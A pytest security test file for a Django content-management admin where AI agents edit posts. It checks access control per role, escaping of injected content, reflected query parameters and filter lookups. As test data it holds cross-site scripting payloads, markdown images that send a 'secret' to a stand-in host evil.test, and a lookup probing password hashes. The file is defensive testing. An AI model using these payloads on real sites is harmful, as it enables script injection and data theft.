from __future__ import annotations

import re
from collections.abc import Callable
from html.parser import HTMLParser

import pytest
from django.test import Client
from django.urls import get_resolver

from agents_app.models import AgentRun
from content.models import Layer, Post
from content.store import document_edits
from tests import make
from tests.admin.pages import review, url

pytestmark = pytest.mark.django_db
SignedIn = Callable[..., Client]
ATTACK = '<img src=x onerror=alert(1)> "quoted" <script>alert(1)</script>'


def _addresses(post: Post, run: AgentRun) -> list[str]:
    """All URLs of the admin, with ids of existing objects."""
    ids = {
        "post_id": str(post.pk),
        "revision_id": str(post.revisions.get().pk),
        "run_id": str(run.pk),
        "object_id": "1",
        "content_type_id": "1",
    }
    found = []
    for name, patterns in (
        get_resolver("cms_project.urls").namespace_dict["admin"][1].reverse_dict.items()
    ):
        if isinstance(name, str):
            for possibility, *_ in [patterns]:
                text, params = possibility[0]
                if all(param in ids for param in params):
                    found.append("/admin/" + text % ids)
    return sorted({address for address in found if "logout" not in address and "%" not in address})


def _everywhere(client: Client, post: Post, run: AgentRun, method: str) -> dict[str, int]:
    answers = {}
    for address in _addresses(post, run):
        answers[address] = getattr(client, method)(address).status_code
    return answers


def test_threat_10_no_address_of_the_admin_opens_for_an_agent_or_a_stranger() -> None:
    post = make.post()
    run = AgentRun.objects.create(
        agent_id="seo-specialist", scope="dropdown", post=post, by_name="e", via="admin"
    )
    agent = Client()
    agent.force_login(make.user("ai_agent"))
    before = make.live_hash()

    addresses = _addresses(post, run)
    assert len(addresses) > 20
    for client in (Client(), agent):
        for method in ("get", "post"):
            for address, status in _everywhere(client, post, run, method).items():
                if address not in ("/admin/login/", "/admin/jsi18n/"):
                    assert status in (302, 403, 404, 405), (address, method, status)
    assert make.live_hash() == before


def test_threat_10_each_address_answers_each_role_by_its_permission(signed_in: SignedIn) -> None:
    post = make.post()
    run = AgentRun.objects.create(
        agent_id="seo-specialist", scope="dropdown", post=post, by_name="e", via="admin"
    )
    closed_to_translators = (
        f"/admin/content/post/{post.pk}/delete/",
        "/admin/content/post/add/",
        "/admin/content/post/trash/",
        f"/admin/content/post/{post.pk}/revisions/{post.revisions.get().pk}/restore/",
        "/admin/agents_app/agentrun/",
        f"/admin/agents_app/agentrun/{run.pk}/change/",
        f"/admin/agents_app/agentrun/{run.pk}/status/",
        "/admin/proofroom_menus/menu/",
        "/admin/proofroom_taxonomies/term/",
        "/admin/content/moduleinstance/",
    )
    closed_to_editors = (
        "/admin/proofroom_core/event/",
        "/admin/proofroom_accounts/user/",
        "/admin/proofroom_accounts/apitoken/",
    )

    translator, editor, admin = (signed_in(role) for role in ("translator", "editor", "admin"))
    for address in (*closed_to_translators, *closed_to_editors):
        assert translator.get(address).status_code == 403, address
        assert admin.get(address).status_code == 200, address
    for address in closed_to_editors:
        assert editor.get(address).status_code == 403, address
    for address in closed_to_translators:
        assert editor.get(address).status_code == 200, address
    for client in (translator, editor, admin):
        assert all(status < 500 for status in _everywhere(client, post, run, "get").values())


def _attacked() -> Post:
    """Create a post whose every text is an injection attempt, on both sides of every diff."""
    post = make.post(ATTACK, excerpt=ATTACK, markdown=ATTACK + "\n\n![x](https://evil.test/?q=1)")
    prose = make.module_id(post, "prose")
    faq = make.module_id(post, "faq")
    for layer in (Layer.REVIEW, Layer.AI_REVIEW):
        make.staged(
            post,
            {"title": f"{layer} {ATTACK}", "excerpt": f"{ATTACK} {layer}", "metaTitle": ATTACK},
            layer=layer,
        )
        make.staged(
            post,
            edit=lambda d, layer=layer: document_edits.update_module(  # type: ignore[misc]
                d,
                prose,
                content_markdown=f"{layer} ![leak](https://evil.test/?q=secret) {ATTACK} [a](https://evil.test/{layer})",
            ),
            layer=layer,
        )
        make.staged(
            post,
            edit=lambda d, layer=layer: document_edits.update_module(  # type: ignore[misc]
                d, faq, props={"items": [{"question": f"{layer}{ATTACK}"}]}
            ),
            layer=layer,
        )
        make.staged_addition(
            post, type="hero", props={"title": ATTACK, "subtitle": ATTACK}, layer=layer
        )
    return post


def test_threats_27_to_37_nothing_that_content_says_becomes_markup(signed_in: SignedIn) -> None:
    post = _attacked()
    run = AgentRun.objects.create(
        agent_id="seo-specialist",
        scope="dropdown",
        post=post,
        by_name=ATTACK,
        via="admin",
        status="failed",
        error=ATTACK,
        summary=ATTACK + "![x](https://evil.test/?q=1)",
        open_ended_context=ATTACK,
    )
    run.steps.create(number=1, kind="tool", name="x", ok=False, milliseconds=1, summary=ATTACK)
    client = signed_in("admin")
    first = post.revisions.get()
    pages = [
        "/admin/",
        "/admin/inbox/",
        "/admin/content/post/",
        "/admin/agents_app/agentrun/",
        f"/admin/agents_app/agentrun/{run.pk}/change/",
        url(post),
        url(post, query="?layer=review"),
        review(post),
        review(post, "review"),
        url(post, "delete"),
        url(post, "revisions"),
        url(post, "revisions/compare", f"?from={first.pk}&to={first.pk}"),
    ]

    for address in pages:
        page = client.get(address).content.decode()
        assert "<script>alert" not in page, address
        assert "<img src=x" not in page, address
        assert not re.search(r"<img[^>]+evil\.test", page), address
        assert not _handlers(page), address


def _handlers(page: str) -> list[str]:
    """Attributes that would run scripts."""
    found: list[str] = []

    class Tags(HTMLParser):
        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
            found.extend(name for name, _ in attrs if name.startswith("on") or name == "style")

    Tags().feed(page)
    return found


def test_threat_32_query_parameters_are_not_echoed_as_markup(signed_in: SignedIn) -> None:
    post = make.post()
    client = signed_in("admin")
    for address in (
        "/admin/content/post/?q=",
        "/admin/content/post/?status=",
        "/admin/inbox/?layer=",
        url(post, "review", "?layer="),
        url(post, "", "?layer=").replace("//", "/"),
        url(post, "revisions", "?page="),
        "/admin/agents_app/agentrun/?q=",
        "/admin/login/?next=",
    ):
        page = client.get(address, follow=True).content.decode()
        attacked = client.get(address + '"><script>alert(1)</script>', follow=True)
        assert "<script>alert" not in attacked.content.decode(), address
        assert page


@pytest.mark.parametrize(
    "lookup", ["author__password__startswith=p", "author__email=x", "placements__id=1"]
)
def test_threat_18_the_list_takes_no_lookups_of_its_own(signed_in: SignedIn, lookup: str) -> None:
    make.post("Shown")
    answer = signed_in().get(f"/admin/content/post/?{lookup}", follow=True)
    assert answer.status_code == 400 or "Shown" in answer.content.decode()
